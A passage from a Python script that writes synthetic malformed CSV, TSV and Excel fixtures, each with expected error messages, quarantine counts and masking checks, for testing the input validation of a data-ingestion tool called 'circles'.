"""Write the bad-input corpus: small agency extracts that each break one thing, and what circles must do.

Run it from anywhere::

    python tests/data/make_bad_inputs.py            # (re)writes tests/data/bad/
    python tests/data/make_bad_inputs.py OTHER_DIR  # writes the same files elsewhere

The files are test fixtures and are committed. ``tests/ingest/test_bad_input.py`` runs this script into a temporary
folder and checks that it reproduces the committed files byte for byte (Parquet files by content, because
their footer records the version of the library that wrote them), so change this script, never the files.

``bad/expected.yaml`` says, for each file, how the spec maps its columns (one standard layout, with a few
per-file overrides) and what circles must do with it:

* ``error``: a regular expression the whole-file error message must match (the message must also name the
  file, and must not repeat any identifier or postcode written into the file);
* or ``read`` / ``accepted`` / ``quarantined`` row counts, ``reasons`` (rows quarantined per reason, as in the
  manifest), ``quarantine`` (the published ``source_row`` of every quarantined row and its reasons), and
  optionally ``input`` (entries the manifest must record for the file) and ``warnings`` (patterns).

``identifiers`` and ``postcodes`` list the personal values written into the file: the published quarantine
must not contain any of them. ``xfail`` marks a case where circles is known to behave wrongly today; the
expectation is still the correct behaviour.

Everything here is SYNTHETIC: made-up client ids, NHS numbers built to pass (or fail) the check digit, and
real postcodes of Blackburn with Darwen taken from ``geo/postcodes_bwd.csv`` (open data, not addresses).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import openpyxl.styles
import pyarrow as pa
import pyarrow.parquet as pq
import yaml

HERE = Path(__file__).resolve().parent
OUT = HERE / "bad"

#: Dates after this are "future" (fixed so that the expectations never change with the calendar).
REFERENCE_DATE = dt.date(2025, 1, 1)

#: The one standard layout: standard field -> column rule (source column named like the field).
STANDARD: dict[str, dict[str, Any]] = {
    "client_id": {"column": "client_id", "privacy": "pseudonymise"},
    "nhs_number": {"column": "nhs_number", "type": "nhs_number", "required": False, "privacy": "pseudonymise"},
    "date_of_birth": {"column": "date_of_birth", "type": "date", "required": False, "privacy": "drop"},
    "postcode": {"column": "postcode", "type": "postcode"},
    "service": {"column": "service"},
    "referral_date": {"column": "referral_date", "type": "date"},
    "start_date": {"column": "start_date", "type": "date"},
    "end_date": {"column": "end_date", "type": "date", "required": False},
    "age": {"column": "age", "type": "integer", "minimum": 0, "required": False},
    "sex": {"column": "sex", "type": "category", "allowed": ["F", "M"]},
}
HEADER = list(STANDARD)
#: Fields whose values identify a person (collected for the masking check).
IDENTIFYING = ("client_id", "nhs_number", "name", "address")

#: Real postcodes of the borough (all in geo/postcodes_bwd.csv, all inside an LSOA).
PC = ["BB2 1AA", "BB2 1AB", "BB2 1AD", "BB2 1AE", "BB2 1AF", "BB2 1AG", "BB2 1AH", "BB2 1AJ", "BB2 1AN", "BB1 1AA"]

_ZIP_TIME = (2024, 1, 1, 0, 0, 0)
_CORE_TIME = b"2024-01-01T00:00:00Z"


def nhs(nine: str) -> str:
    """A valid NHS number: nine digits and their modulus 11 check digit."""
    check = 11 - sum(int(d) * w for d, w in zip(nine, range(10, 1, -1), strict=True)) % 11
    check = 0 if check == 11 else check
    assert check != 10, nine
    return nine + str(check)


NHS = [nhs(n) for n in ("943476591", "401023213", "485777345", "617402843", "737168359")]


def rec(client_id: str, postcode: str = PC[0], **values: str) -> dict[str, str]:
    """One record in the standard layout: a valid row unless ``values`` say otherwise."""
    row = {
        "client_id": client_id,
        "nhs_number": "",
        "date_of_birth": "",
        "postcode": postcode,
        "service": "Family support",
        "referral_date": "01/04/2010",
        "start_date": "05/04/2010",
        "end_date": "",
        "age": "30",
        "sex": "F",
    }
    unknown = set(values) - set(row) - {"name", "address", "notes", "team"}
    assert not unknown, unknown
    return row | values


# --------------------------------------------------------------------------------------------- writers


def delimited(
    rows: list[dict[str, str]], header: list[str] | None = None, *, delimiter: str = ",", newline: str = "\n"
) -> tuple[str, list[int]]:
    """Delimited text (csv module quoting) and the physical line on which each row starts."""
    header = header or list(rows[0])
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    starts = []
    for row in rows:
        starts.append(buffer.getvalue().count(newline[-1]) + 1)
        writer.writerow([row.get(c, "") for c in header])
    return buffer.getvalue(), starts


def line_of(text: str, marker: str) -> int:
    """Physical line (1-based) on which ``marker`` first appears in ``text``."""
    at = text.index(marker)
    return text.count("\n", 0, at) + 1


def _stable_zip(data: bytes) -> bytes:
    """Rewrite an .xlsx so the same workbook always gives the same bytes, independent of zlib and the clock.

    Entries are stored (not deflated: deflate output differs between zlib builds) with a fixed date, the
    document's created/modified times are fixed, and the 10 KB colour theme openpyxl adds is left out (a
    workbook without a theme is valid; Excel and openpyxl fall back to the default one).
    """
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for entry in source.infolist():
            if entry.filename.startswith("xl/theme/"):
                continue
            body = source.read(entry.filename)
            if entry.filename == "docProps/core.xml":
                body = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>" + _CORE_TIME, body)
            elif entry.filename == "xl/_rels/workbook.xml.rels":
                body = re.sub(rb"<Relationship [^>]*Target=\"[^\"]*theme/theme1\.xml\"[^>]*/>", b"", body)
            elif entry.filename == "[Content_Types].xml":
                body = re.sub(rb"<Override [^>]*PartName=\"/xl/theme/theme1\.xml\"[^>]*/>", b"", body)
            info = zipfile.ZipInfo(entry.filename, date_time=_ZIP_TIME)
            info.create_system = 3
            info.external_attr = 0o644 << 16
            target.writestr(info, body)
    return out.getvalue()


def xlsx(build: Callable[[openpyxl.Workbook], None]) -> bytes:
    """An .xlsx workbook made by ``build`` (openpyxl: formulas are written without cached values)."""
    book = openpyxl.Workbook()
    book.properties.creator = "circles tests"
    build(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return _stable_zip(buffer.getvalue())


def sheet_rows(ws: Any, rows: list[list[Any]]) -> None:
    for row in rows:
        ws.append(row)


def parquet(table: pa.Table) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(table, buffer, compression="none")
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------- corpus


class Corpus:
    """Files and their expectations, in the order they are added."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.cases: dict[str, dict[str, Any]] = {}

    def add(
        self,
        name: str,
        data: bytes,
        about: str,
        *,
        rows: list[dict[str, str]] = (),
        identifiers: list[str] = (),
        postcodes: list[str] = (),
        columns: dict[str, Any] | None = None,
        sheet: str | None = None,
        xfail: str | None = None,
        **expect: Any,
    ) -> None:
        assert name not in self.files, name
        case: dict[str, Any] = {"about": " ".join(about.split()), "layout": "standard"}
        if columns:
            case["columns"] = columns
        if sheet:
            case["sheet"] = sheet
        if "error" not in expect:
            expect.setdefault("reasons", {})
            expect.setdefault("quarantine", {})
            assert expect["read"] == expect["accepted"] + expect["quarantined"], name
            assert len(expect["quarantine"]) == expect["quarantined"], name
            expect["reasons"] = dict(sorted(expect["reasons"].items()))
            expect["quarantine"] = {k: sorted(v) for k, v in expect["quarantine"].items()}
        case.update(expect)
        ids = {str(r[k]) for r in rows for k in IDENTIFYING if str(r.get(k, "")).strip()} | set(identifiers)
        pcs = {r["postcode"] for r in rows if re.search(r"\d[A-Za-z]{2}\s*$", r.get("postcode", ""))}
        case["identifiers"] = sorted(ids)
        case["postcodes"] = sorted(pcs | set(postcodes))
        if xfail:
            case["xfail"] = " ".join(xfail.split())
        self.files[name] = data
        self.cases[name] = case


def q(name: str, line: int | str, *reasons: str) -> tuple[str, list[str]]:
    return f"{name}:{line}", list(reasons)


def build() -> Corpus:
    c = Corpus()

    # ------------------------------------------------------------------------------------ encodings
    rows = [
        rec("QA0101", PC[0], service="Café £5 voucher scheme", name="Renée Dupré"),
        rec("QA0102", PC[1], service="Crèche – drop-in", name="Zoë O’Neill"),
        rec("QA0103", PC[2]),
    ]
    text, _ = delimited(rows, [*HEADER, "name"], newline="\r\n")
    c.add(
        "cp1252_pound_accent.csv",
        text.encode("cp1252"),
        """Excel's default 'CSV (Comma delimited)' on Windows: Windows-1252 (£, é, en dash, curly quote) and
        CRLF line ends. Read as cp1252, nothing replaced.""",
        rows=rows,
        read=3,
        accepted=3,
        quarantined=0,
        input={"encoding": "cp1252", "delimiter": ","},
    )

    rows = [rec("QA0201", PC[0], service="Crèche – drop-in"), rec("QA0202", PC[1]), rec("QA0203", PC[2])]
    rows.append(rec("QA0204", PC[3], end_date="01/01/2010"))
    text, starts = delimited(rows, newline="\r\n")
    c.add(
        "utf8_bom.csv",
        b"\xef\xbb\xbf" + text.encode("utf-8"),
        """Excel's 'CSV UTF-8': a byte order mark before the first header name, CRLF line ends. The BOM must
        not end up in the name of the first column (client_id is required); CRLF counts as one line end (the
        end date before the start is line 5).""",
        rows=rows,
        read=4,
        accepted=3,
        quarantined=1,
        reasons={"date_order": 1},
        quarantine=dict([q("utf8_bom.csv", starts[3], "date_order")]),
        input={"encoding": "utf-8-sig"},
    )

    rows = [rec("QA0301", PC[0], service="Łódź family centre – 家庭"), rec("QA0302", PC[1], service="Naïve café")]
    text, _ = delimited(rows)
    c.add(
        "utf8_no_bom.csv",
        text.encode("utf-8"),
        "UTF-8 without a byte order mark, with characters outside Windows-1252.",
        rows=rows,
        read=2,
        accepted=2,
        quarantined=0,
        input={"encoding": "utf-8"},
    )

    rows = [rec("QA0401", PC[0]), rec("QA0402", PC[1]), rec("QA0403", PC[2], service="Family BAD support")]
    text, starts = delimited(rows)
    data = text.encode("ascii").replace(b"BAD", b"\x81")
    c.add(
        "neither_utf8_nor_cp1252.csv",
        data,
        """A byte (0x81) that is neither UTF-8 nor defined in Windows-1252, on line 4: a whole-file error naming
        the line and the byte.""",
        rows=rows,
        error=rf"line {starts[2]} \(byte \d+\).*neither UTF-8 nor Windows-1252.*0x81",
    )

    rows = [rec("QA0501", PC[0], service="Café"), rec("QA0502", PC[1]), rec("QA0503", PC[2], service="Family BAD")]
    text, starts = delimited(rows)
    data = text.encode("cp1252").replace(b"BAD", b"\x81")
    c.add(
        "cp1252_then_undefined_byte.csv",
        data,
        """Windows-1252 text (é on line 2) with a byte undefined in Windows-1252 (0x81) on line 4. The error
        must point at line 4 and byte 0x81, the byte that makes the file unreadable, not at the é (a valid
        Windows-1252 character).""",
        rows=rows,
        error=rf"line {starts[2]} \(byte \d+\).*neither UTF-8 nor Windows-1252.*0x81",
    )

    rows = [rec("QA0601", PC[0]), rec("QA0602", PC[1])]
    text, _ = delimited(rows, newline="\r\n")
    c.add(
        "utf16_bom.csv",
        text.encode("utf-16"),
        "Excel's 'Unicode Text' export: UTF-16 with a byte order mark. A whole-file error saying UTF-16.",
        rows=rows,
        error="UTF-16",
    )
    c.add(
        "utf16le_no_bom.csv",
        text.encode("utf-16-le"),
        """UTF-16 little-endian without a byte order mark (every other byte is NUL; valid UTF-8 in theory).
        A whole-file error saying UTF-16, not a traceback.""",
        rows=rows,
        error="UTF-16",
    )

    # ------------------------------------------------------------------------------------ delimiters
    rows = [
        rec("QA0701", PC[0], service="Housing, advice and support"),
        rec("QA0702", PC[1]),
        rec("QA0703", PC[2], referral_date="31/02/2010"),
    ]
    text, starts = delimited(rows, delimiter=";")
    c.add(
        "semicolon.csv",
        text.encode("utf-8"),
        """Semicolon-delimited (European Excel), with a comma inside a field; the impossible date on the last
        row is quarantined with its line.""",
        rows=rows,
        read=3,
        accepted=2,
        quarantined=1,
        reasons={"invalid_date": 1},
        quarantine=dict([q("semicolon.csv", starts[2], "invalid_date")]),
        input={"delimiter": ";"},
    )

    rows = [rec("QA0801", PC[0], service="Youth offending, early help"), rec("QA0802", PC[1], age="-2")]
    text, starts = delimited(rows, delimiter="\t")
    c.add(
        "tab.tsv",
        text.encode("utf-8"),
        "Tab-delimited (.tsv); a negative age on line 3.",
        rows=rows,
        read=2,
        accepted=1,
        quarantined=1,
        reasons={"negative_value": 1},
        quarantine=dict([q("tab.tsv", starts[1], "negative_value")]),
        input={"delimiter": "tab"},
    )

    rows = [rec("QA0901", PC[0]), rec("QA0902", PC[1], sex="X")]
    text, starts = delimited(rows, delimiter="|")
    c.add(
        "pipe.txt",
        text.encode("utf-8"),
        "Pipe-delimited .txt (database unload); a sex outside F/M on line 3.",
        rows=rows,
        read=2,
        accepted=1,
        quarantined=1,
        reasons={"not_allowed": 1},
        quarantine=dict([q("pipe.txt", starts[1], "not_allowed")]),
        input={"delimiter": "|"},
    )

    rows = [rec("QA1001", PC[0]), rec("QA1002", PC[1]), rec("QA1003", PC[2], referral_date="31/02/2010")]
    text, starts = delimited(rows, newline="\r")
    c.add(
        "mac_cr_line_endings.csv",
        text.encode("utf-8"),
        """Classic Mac line ends (CR only), as Excel for Mac's 'CSV (Macintosh)' still writes. Rows are read
        (lines counted by CR) and the bad date on line 4 is quarantined.""",
        rows=rows,
        read=3,
        accepted=2,
        quarantined=1,
        reasons={"invalid_date": 1},
        quarantine=dict([q("mac_cr_line_endings.csv", starts[2], "invalid_date")]),
    )

    rows = [rec("QA1101", PC[0]), rec("QA1102", PC[1], start_date="01/03/2010")]
    body, _ = delimited(rows)
    title = "Take-up extract, Blackburn with Darwen\nGenerated: 01/01/2024 by the case system\n\n"
    text = title + body
    c.add(
        "title_lines.csv",
        text.encode("utf-8"),
        """Three title lines (one with a comma) above the header. The header is found on line 4; line numbers
        stay physical: the start date before the referral is line 6.""",
        rows=rows,
        read=2,
        accepted=1,
        quarantined=1,
        reasons={"date_order": 1},
        quarantine=dict([q("title_lines.csv", line_of(text, "QA1102"), "date_order")]),
        input={"header_line": 4, "title_lines_skipped": 3},
    )

    # ------------------------------------------------------------------------------------ Excel
    def title_rows(book: openpyxl.Workbook) -> None:
        ws = book.active
        ws.title = "Take up"
        first = ["QB0101", int(NHS[0]), dt.datetime(1980, 2, 1), PC[0], "Family support", dt.datetime(2010, 4, 1)]
        sheet_rows(
            ws,
            [
                ["Blackburn with Darwen: service take-up extract"],
                ["Produced 01/01/2024", None, None, "OFFICIAL-SENSITIVE"],
                [],
                HEADER,
                [*first, dt.datetime(2010, 4, 5), None, 30, "F"],
                ["QB0102", None, None, PC[1], "Housing", "01/04/2010", "05/04/2010", None, 41.0, "M"],
                [],
                ["QB0103", None, None, PC[2], "Housing", "31/02/2010", "05/04/2010", None, 7, "F"],
            ],
        )
        ws.merge_cells("A1:J1")
        for row in (9, 10):  # trailing rows with a border and no value: padding Excel keeps, not records
            for column in range(1, 11):
                ws.cell(row=row, column=column).border = openpyxl.styles.Border(top=openpyxl.styles.Side("thin"))

    c.add(
        "excel_title_rows.xlsx",
        xlsx(title_rows),
        """Junk title rows (a merged banner, a protective marking, a blank row) above the header on sheet row 4;
        an empty row in the middle (row 7) is quarantined, trailing empty rows are not records. The bad date is
        sheet row 8. An NHS number stored as a number and an age stored as 41.0 are read as digits.""",
        identifiers=["QB0101", "QB0102", "QB0103", NHS[0]],
        postcodes=PC[:3],
        read=4,
        accepted=2,
        quarantined=2,
        reasons={"empty_row": 1, "invalid_date": 1},
        quarantine={
            "excel_title_rows.xlsx!Take up:7": ["empty_row"],
            "excel_title_rows.xlsx!Take up:8": ["invalid_date"],
        },
        input={"format": "xlsx", "sheet": "Take up", "header_row": 4, "title_rows_skipped": 3},
    )

    def merged(book: openpyxl.Workbook) -> None:
        ws = book.active
        ws.title = "Extract"
        sheet_rows(
            ws,
            [
                ["Person", None, None, None, "Referral", None, None, None, "About", None],
                HEADER,
                ["QB0201", None, None, PC[0], "Family support", "01/04/2010", "05/04/2010", None, 30, "F"],
                ["QB0202", None, None, PC[1], None, "02/04/2010", "06/04/2010", None, 31, None],
                ["QB0203", None, None, PC[2], None, "03/04/2010", "07/04/2010", None, 32, None],
                ["QB0204", None, None, PC[3], "Housing", "04/04/2010", "08/04/2010", None, 33, "M"],
            ],
        )
        for cells in ("A1:D1", "E1:H1", "I1:J1", "E3:E5", "J3:J5"):
            ws.merge_cells(cells)

    c.add(
        "excel_merged_cells.xlsx",
        xlsx(merged),
        """Merged group labels above the real header (row 1), and merged data cells: a service and a sex merged
        down three rows. Every covered cell takes the merged value, so all four rows are accepted.""",
        identifiers=["QB0201", "QB0202", "QB0203", "QB0204"],
        postcodes=PC[:4],
        read=4,
        accepted=4,
        quarantined=0,
        input={"header_row": 2, "title_rows_skipped": 1, "merged_ranges": 5},
    )

    def dates(book: openpyxl.Workbook) -> None:
        ws = book.active
        ws.title = "Take up"
        sheet_rows(
            ws,
            [
                HEADER,
                ["QB0301", None, dt.datetime(1980, 2, 1), PC[0], "Housing", dt.datetime(2010, 4, 1)]
                + [dt.date(2010, 4, 5), None, 30, "F"],
                ["QB0302", None, 29253, PC[1], "Housing", 40269, 40273, 40299, 30, "F"],  # serial day numbers
                ["QB0303", None, "01/02/1980", PC[2], "Housing", "01/04/2010", "05/04/2010", "2010-05-01", 30, "F"],
                ["QB0304", None, None, PC[3], "Housing", "2010-04-01", dt.datetime(2010, 4, 5), "40299", 30, "M"],
            ],
        )
        ws["F2"].number_format = "dd/mm/yyyy"

    c.add(
        "excel_dates.xlsx",
        xlsx(dates),
        """A date column holding real Excel dates, serial day numbers (40269 = 1 April 2010), UK text dates and
        ISO text dates, mixed down the column. All accepted.""",
        identifiers=["QB0301", "QB0302", "QB0303", "QB0304"],
        postcodes=PC[:4],
        read=4,
        accepted=4,
        quarantined=0,
    )

    def datetimes(book: openpyxl.Workbook) -> None:
        ws = book.active
        ws.title = "Take up"
        sheet_rows(
            ws,
            [
                HEADER,
                ["QB0401", None, None, PC[0], "A&E liaison", dt.datetime(2010, 4, 1, 10, 30)]
                + [dt.datetime(2010, 4, 1, 14, 5), None, 30, "F"],
                ["QB0402", None, None, PC[1], "A&E liaison", dt.datetime(2010, 4, 2), dt.datetime(2010, 4, 2)]
                + [None, 30, "M"],
            ],
        )

    c.add(
        "excel_datetime_with_time.xlsx",
        xlsx(datetimes),
        """Real Excel date-time cells with a time of day (a referral logged at 10:30). Excel says these are
        dates; the date part is the referral date, so the rows are accepted.""",
        identifiers=["QB0401", "QB0402"],
        postcodes=PC[:2],
        read=2,
        accepted=2,
        quarantined=0,
    )

    def formula(book: openpyxl.Workbook) -> None:
        ws = book.active
        ws.title = "Take up"
        sheet_rows(
            ws,
            [
                HEADER,
                ["QB0501", None, None, PC[0], "Housing", "01/04/2010", "05/04/2010", None, 30, "F"],
                ["QB0502", None, None, PC[1], "Housing", "01/04/2010", "05/04/2010", None, "=2010-1980", "M"],
                ["QB0503", None, None, PC[2], "Housing", "01/04/2010", "05/04/2010", None, 7, "F"],
            ],
        )

    c.add(
        "excel_uncached_formula.xlsx",
        xlsx(formula),
        """An age written as a formula (=2010-1980) with no cached value, as openpyxl and other tools write
        them: its value is unknown, so the row is quarantined with the cell reference.""",
        identifiers=["QB0501", "QB0502", "QB0503"],
        postcodes=PC[:3],
        read=3,
        accepted=2,
        quarantined=1,
        reasons={"uncached_formula": 1},
        quarantine={"excel_uncached_formula.xlsx!Take up:3": ["uncached_formula"]},
        input={"uncached_formulas": 1},
    )

    def two_sheets(book: openpyxl.Workbook) -> None:
        notes = book.active
        notes.title = "Notes"
        notes.append(["Extract notes"])
        data = book.create_sheet("Take up 2024")
        sheet_rows(data, [HEADER, ["QB0601", None, None, PC[0], "Housing", "01/04/2010", "05/04/2010", None, 3, "F"]])

    c.add(
        "excel_wrong_sheet.xlsx",
        xlsx(two_sheets),
        "The spec names sheet 'Take up'; the workbook has 'Notes' and 'Take up 2024'. Error listing the sheets.",
        identifiers=["QB0601"],
        postcodes=PC[:1],
        sheet="Take up",
        error=r"no sheet 'Take up'\. Did you mean 'Take up 2024'\? Sheets: Notes, Take up 2024\.",
    )

    c.add(
        "excel_empty_sheet.xlsx",
        xlsx(lambda book: None),
        "A workbook whose only sheet is empty: a whole-file error naming the sheet.",
        error=r"sheet 'Sheet'.*empty",
    )

    c.add(
        "excel_header_only.xlsx",
        xlsx(lambda book: book.active.append(HEADER)),
        "A workbook with the header row and no records: 0 rows, accepted, with a warning.",
        read=0,
        accepted=0,
        quarantined=0,
        warnings=["a header and no rows"],
    )

    text, _ = delimited([rec("QB0701", PC[0])])
    c.add(
        "not_really_excel.xlsx",
        text.encode("utf-8"),
        "A CSV file renamed to .xlsx: a whole-file error saying it is not an Excel workbook.",
        identifiers=["QB0701"],
        postcodes=PC[:1],
        error="cannot open it as an Excel workbook",
    )

    c.add(
        "legacy.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "An old binary Excel .xls file: a whole-file error saying to save it as .xlsx.",
        error=r"old Excel \.xls files are not read; save it as \.xlsx",
    )

    # ------------------------------------------------------------------------------------ header and columns
    rows = [rec("QC0101", PC[0]), rec("QC0102", PC[1])]
    text, _ = delimited(rows, [h for h in HEADER if h != "service"])
    c.add(
        "missing_required_column.csv",
        text.encode("utf-8"),
        "No service column at all: a whole-file error naming the missing column and the columns found.",
        rows=rows,
        error=r"missing required column 'service'\. Columns found: client_id, nhs_number",
    )

    rows = [rec("QC0201", PC[0]), rec("QC0202", PC[1])]
    text, _ = delimited([{("post_code" if k == "postcode" else k): v for k, v in r.items()} for r in rows])
    c.add(
        "misspelt_column.csv",
        text.encode("utf-8"),
        "The postcode column is headed post_code: the error suggests it.",
        rows=rows,
        error=r"missing required column 'postcode' \(Did you mean 'post_code'\?\)",
    )

    rows = [
        rec("QC0301", PC[0], name="Aisha Khan", address="12 Example Street", notes="seen at home", team="East"),
        rec("QC0302", PC[1], name="Tom Barlow", address="3 Sample Road", notes="", team="West"),
    ]
    text, _ = delimited(rows, ["team", *HEADER, "name", "address", "notes"])
    c.add(
        "extra_columns.csv",
        text.encode("utf-8"),
        """Columns the spec does not map (team, name, address, notes), before and after the mapped ones:
        accepted and ignored; names and addresses never reach the outputs.""",
        rows=rows,
        read=2,
        accepted=2,
        quarantined=0,
    )

    rows = [rec("QC0401", PC[0]), rec("QC0402", PC[1])]
    header = [" Client_ID ", "NHS_Number", "Date_Of_Birth", "POSTCODE", "Service ", "Referral_Date", "Start_Date"]
    header += ["End_Date", "Age", " sex"]
    text, _ = delimited([dict(zip(header, r.values(), strict=True)) for r in rows], header)
    c.add(
        "header_case_and_spaces.csv",
        text.encode("utf-8"),
        "Header names in other cases and with stray spaces: matched ignoring case and surrounding spaces.",
        rows=rows,
        read=2,
        accepted=2,
        quarantined=0,
    )

    rows = [rec("QC0501", PC[0], notes="first"), rec("QC0502", PC[1], notes="second")]
    header = [*HEADER, "notes", "notes"]
    text = "".join(",".join([*list(r.values())[:-1], r["notes"], "again"]) + "\n" for r in rows)
    text = ",".join(header) + "\n" + text
    c.add(
        "duplicate_header_unmapped.csv",
        text.encode("utf-8"),
        "A column name the spec does not use (notes) appears twice in the header: harmless, accepted.",
        rows=rows,
        read=2,
        accepted=2,
        quarantined=0,
    )

    rows = [rec("QC0601", "NOT KNOWN", team=PC[0]), rec("QC0602", "", team=PC[1])]
    text, _ = delimited(rows, [*HEADER, "team"])
    text = text.replace("sex,team", "sex,postcode", 1)
    c.add(
        "duplicate_header_mapped.csv",
        text.encode("utf-8"),
        """The header holds 'postcode' twice (an old and a new address column). Which one the spec means is
        ambiguous: a whole-file error naming the repeated column, rather than silently using the first.""",
        rows=rows,
        postcodes=PC[:2],
        error=r"'postcode'.*(twice|more than once|repeat)",
    )

    rows = [rec("QC0701", PC[0], nhs_number=NHS[1]), rec("QC0702", PC[1], nhs_number=NHS[2])]
    text, _ = delimited(rows)
    text = text.split("\n", 1)[1]
    c.add(
        "no_header_row.csv",
        text.encode("utf-8"),
        """No header row at all (data from line 1). A whole-file error naming the file; the message must not
        quote the first record, which holds a client id, an NHS number and a postcode.""",
        rows=rows,
        error=r"(missing required column|header)",
    )

    rows = [rec("QC0801", PC[0]), rec("QC0802", PC[1])]
    text, _ = delimited(rows)
    text = text + text.split("\n", 1)[0] + "\n" + delimited([rec("QC0803", PC[2])])[0].split("\n", 1)[1]
    c.add(
        "repeated_header_row.csv",
        text.encode("utf-8"),
        """Two exports pasted together: the header repeats on line 4. That line is quarantined as a record that
        fails its checks (its 'dates' are column names); the rows either side are accepted.""",
        rows=[*rows, rec("QC0803", PC[2])],
        read=4,
        accepted=3,
        quarantined=1,
        reasons={"invalid_date": 1, "invalid_integer": 1, "invalid_nhs_number": 1, "not_allowed": 1},
        quarantine=dict(
            [q("repeated_header_row.csv", 4, "invalid_date", "invalid_integer", "invalid_nhs_number", "not_allowed")]
        ),
    )

    # ------------------------------------------------------------------------------------ empty files
    c.add("empty.csv", b"", "Zero bytes: a whole-file error.", error=r"the file is empty")
    c.add(
        "whitespace_only.csv",
        b"  \r\n\t\r\n   \n",
        "Only spaces, tabs and line ends: a whole-file error, as if empty.",
        error=r"the file is empty",
    )
    c.add(
        "header_only.csv",
        (",".join(HEADER) + "\n").encode("utf-8"),
        "A header and no records: 0 rows read, accepted, and a warning in the manifest.",
        read=0,
        accepted=0,
        quarantined=0,
        warnings=["header_only.csv: a header and no rows"],
    )

    # ------------------------------------------------------------------------------------ CSV structure
    rows = [
        rec("QD0101", PC[0], notes="Seen at home.\nFollow-up booked.\nMum attended."),
        rec("QD0102", PC[1], service="Family\nsupport", notes="Two-line\r\nnote with CRLF"),
        rec("QD0103", PC[2], notes="one line"),
        rec("QD0104", PC[3], referral_date="2010-02-30", notes="bad date, after the multi-line rows"),
    ]
    text, starts = delimited(rows, [*HEADER, "notes"])
    c.add(
        "quoted_newlines.csv",
        text.encode("utf-8"),
        f"""Quoted fields spanning several lines (a 3-line note; a 2-line service beside a note holding a CRLF).
        Rows are accepted and later rows keep their physical line numbers: the bad date is line {starts[3]}.""",
        rows=rows,
        read=4,
        accepted=3,
        quarantined=1,
        reasons={"invalid_date": 1},
        quarantine=dict([q("quoted_newlines.csv", starts[3], "invalid_date")]),
    )

    name = "quoted_newline_then_ragged.csv"
    lines = [
        ",".join([*HEADER, "notes"]),
        'QD0201,,,BB2 1AA,Family support,01/04/2010,05/04/2010,,30,F,"line one',
        "line two",
        'line three"',
        "QD0202,,,BB2 1AB,Family support,01/04/2010,05/04/2010,,30,F,note,EXTRA",
        'QD0203,,,BB2 1AD,"Family',
        'support",01/04/2010,05/04/2010,,30,F',
        "QD0204,,,BB2 1AE,Family support,01/04/2010,05/04/2010,,-4,F,ok",
    ]
    text = "\n".join(lines) + "\n"
    c.add(
        name,
        text.encode("utf-8"),
        """A 3-line quoted note, then a row with one field too many (line 5), then a row with a quoted newline
        and one field too few (lines 6-7), then a negative age (line 8): every line number physical.""",
        identifiers=["QD0201", "QD0202", "QD0203", "QD0204"],
        postcodes=PC[:4],
        read=4,
        accepted=1,
        quarantined=3,
        reasons={"negative_value": 1, "wrong_field_count": 2},
        quarantine=dict(
            [q(name, 5, "wrong_field_count"), q(name, 6, "wrong_field_count"), q(name, 8, "negative_value")]
        ),
    )

    name = "ragged_rows.csv"
    lines = [
        ",".join(HEADER),
        "QD0301,,,BB2 1AA,Family support,01/04/2010,05/04/2010,,30,F",
        "QD0302,,,BB2 1AB,Family support,01/04/2010,05/04/2010,,30,F,extra,more",
        "QD0303,,,BB2 1AD,Family support,01/04/2010,05/04/2010,,30,F",
        "QD0304,,,BB2 1AE,Family support,01/04/2010",
        "QD0305,,,BB2 1AF,Family support,01/04/2010,05/04/2010,,30,F",
    ]
    text = "\n".join(lines) + "\n"
    c.add(
        name,
        text.encode("utf-8"),
        "Rows with too many (line 3) and too few (line 5) fields: wrong_field_count with their line numbers.",
        identifiers=[f"QD030{i}" for i in range(1, 6)],
        postcodes=PC[:5],
        read=5,
        accepted=3,
        quarantined=2,
        reasons={"wrong_field_count": 2},
        quarantine=dict([q(name, 3, "wrong_field_count"), q(name, 5, "wrong_field_count")]),
    )

    name = "unterminated_quote.csv"
    lines = [
        ",".join(HEADER),
        "QD0401,,,BB2 1AA,Family support,01/04/2010,05/04/2010,,30,F",
        'QD0402,,,BB2 1AB,"Family support,01/04/2010,05/04/2010,,30,F',
        "QD0403,,,BB2 1AD,Family support,01/04/2010,05/04/2010,,30,F",
    ]
    text = "\n".join(lines) + "\n"
    c.add(
        name,
        text.encode("utf-8"),
        """A quote opened in the middle of line 3 and never closed: it swallows line 4, so lines 3-4 are one
        broken record (broken_quotes, the message says how many lines it took), not two rows.""",
        identifiers=["QD0401", "QD0402", "QD0403"],
        postcodes=PC[:3],
        read=2,
        accepted=1,
        quarantined=1,
        reasons={"broken_quotes": 1},
        quarantine=dict([q(name, 3, "broken_quotes")]),
    )

    name = "unterminated_quote_last_field.csv"
    lines = [
        ",".join(HEADER),
        "QD0501,,,BB2 1AA,Family support,01/04/2010,05/04/2010,,30,F",
        'QD0502,,,BB2 1AB,Family support,01/04/2010,05/04/2010,,30,"F',
        "QD0503,,,BB2 1AD,Family support,01/04/2010,05/04/2010,,30,F",
        "QD0504,,,BB2 1AE,Family support,01/04/2010,05/04/2010,,30,F",
    ]
    text = "\n".join(lines) + "\n"
    c.add(
        name,
        text.encode("utf-8"),
        """A quote opened in the LAST field of line 3 and never closed: it swallows lines 4-5 to the end of the
        file. Same outcome as a quote left open mid-row (one broken_quotes record), and the swallowed records'
        client ids and postcodes must not be copied into the quarantine.""",
        identifiers=["QD0501", "QD0502", "QD0503", "QD0504"],
        postcodes=PC[:4],
        read=2,
        accepted=1,
        quarantined=1,
        reasons={"broken_quotes": 1},
        quarantine=dict([q(name, 3, "broken_quotes")]),
    )

    name = "blank_lines.csv"
    lines = [
        ",".join(HEADER),
        "QD0601,,,BB2 1AA,Family support,01/04/2010,05/04/2010,,30,F",
        "",
        "QD0602,,,BB2 1AB,Family support,01/04/2010,05/04/2010,,30,F",
        ",,,,,,,,,",
        "",
